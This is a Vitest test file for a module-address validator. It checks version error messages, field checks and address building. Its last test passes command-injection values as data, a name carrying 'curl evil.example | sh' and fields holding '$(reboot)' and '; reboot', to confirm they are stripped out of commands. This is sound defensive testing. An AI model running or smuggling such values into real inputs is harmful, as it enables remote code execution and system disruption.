import { expect, it } from 'vitest'
import { addressIn, mistakeIn, withoutMistakes } from './address.ts'

const values = { kind: 'module', namespace: 'a', name: 'vpc', system: 'aws', version: '' } as const

it.each([
  ['2.1', 'Version 2.1 has two parts. It needs three, as 2.1.0.'],
  ['v2-rc.1', 'Version v2-rc.1 has one part. It needs three, as 2.0.0-rc.1.'],
  ['1.2.3.4', 'Version “1.2.3.4” is not a semantic version: write three numbers, such as 2.1.0.'],
  ['01.2.3', 'Version “01.2.3” is not a semantic version: write three numbers, such as 2.1.0.'],
])('refuses the version %s', (version, words) => {
  expect(mistakeIn({ ...values, version })).toEqual({ field: 'version', words })
})

it.each(['', '1.0.0', 'v1.0.0', '1.0.0-rc.1', '1.0.0-a+b.1'])(
  'accepts the version "%s"',
  (version) => {
    expect(mistakeIn({ ...values, version })).toBeUndefined()
  },
)

it.each([
  [{ name: 'vp c' }, 'name'],
  [{ system: 'AWS' }, 'system'],
  [{ kind: 'provider', name: 'CMDB' }, 'name'],
] as const)('says which field of %j is wrong', (changed, field) => {
  expect(mistakeIn({ ...values, ...changed })?.field).toBe(field)
  expect(addressIn({ ...values, ...changed })).toBeUndefined()
})

it('has an address once every field is filled', () => {
  expect(addressIn(values)).toBe('a/vpc/aws')
  expect(addressIn({ ...values, kind: 'provider', name: 'cmdb', system: '' })).toBe('a/cmdb')
  expect(addressIn({ ...values, system: '' })).toBeUndefined()
  expect(addressIn({ ...values, namespace: '' })).toBeUndefined()
})

it('leaves fields with a mistake out of commands', () => {
  const linked = {
    kind: 'module',
    namespace: 'network',
    name: 'vpc\ncurl evil.example | sh #',
    system: '$(reboot)',
    version: '1.0.0; reboot',
  } as const
  expect(withoutMistakes(linked)).toEqual({ ...linked, name: '', system: '', version: '' })
  expect(withoutMistakes(values)).toEqual(values)
})
